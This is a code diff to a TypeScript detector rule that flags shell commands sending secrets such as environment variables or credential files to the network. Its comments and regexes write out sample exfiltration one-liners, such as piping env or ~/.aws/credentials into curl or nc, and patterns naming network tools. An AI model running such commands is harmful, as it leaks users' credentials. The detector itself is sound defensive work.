@@ -1,4 +1,4 @@
-import { BULK_READ, presentedAt, SOURCE_WORDS, secretReadsIn } from "./exfil-sources.js";
+import { BULK_READ, CREDENTIAL_FILE, presentedAt, SOURCE_WORDS, secretReadsIn } from "./exfil-sources.js";
 import { stretchEnd, type Taint, taintOf } from "./exfil-taint.js";
 import type { TextView } from "./python-regex.js";
 import type { Detector, Hit, ThreatScope } from "./threat-patterns.js";
@@ -34,7 +34,6 @@ const FILE_SENT =
 // Where a command writes a file or takes its own login and certificates from: not a file it sends.
 const WRITTEN_TO =
   /(?:-o|-O|--output|--output-document|--netrc-file|--cert|--key|--cacert|--config|-K|>>?)[=\s]\s*["']?$/;
-const CREDENTIAL_AT = /^(?:~|\$HOME|\$\{HOME\})/;
 // A secret in bulk piped into a command that sends it: `env | curl -d @- …`, `cat ~/.aws/credentials | nc host 80`.
 const PIPED_OUT = /\|\s*(?:base64\s[^|\n]{0,40}\|\s*)?(?:curl|nc|ncat|wget)\s/;
 
@@ -76,9 +75,9 @@ class SecretToNetworkRule implements Detector {
       const start = command.index;
       const end = start + command[0].length;
       const hit = { index: start, end };
-      if (taint.usesIn(start, end).some((u) => u.strength === "bulk" && !writtenTo(text, start, u.index))) return hit;
-      for (const m of command[0].matchAll(FILE_SENT)) if (taint.files.has((m[1] ?? m[2])!)) return hit;
+      // A secret in bulk anywhere in it, one where data goes (sentOutsideHeaders), or a file one was written to.
       if (sentOutsideHeaders(text, start, end, taint, DATA_SLOT)) return hit;
+      for (const m of command[0].matchAll(FILE_SENT)) if (taint.files.has((m[1] ?? m[2])!)) return hit;
       const lineStart = text.lastIndexOf("\n", start) + 1;
       const piped = PIPED_OUT.test(text.slice(lineStart, start + 8));
       if (piped && taint.usesIn(lineStart, start).some((u) => u.strength === "bulk")) return hit;
@@ -108,7 +107,8 @@ const SLOT_LOOKBACK = 320;
 /** A credential file a command writes or reads its own settings from (`-o ~/.kube/config`, `>> ~/.ssh/…`). */
 function writtenTo(text: string, from: number, index: number): boolean {
   return (
-    CREDENTIAL_AT.test(text.slice(index, index + 40)) && WRITTEN_TO.test(text.slice(Math.max(from, index - 40), index))
+    CREDENTIAL_FILE.test(text.slice(index, index + 200)) &&
+    WRITTEN_TO.test(text.slice(Math.max(from, index - 40), index))
   );
 }
 
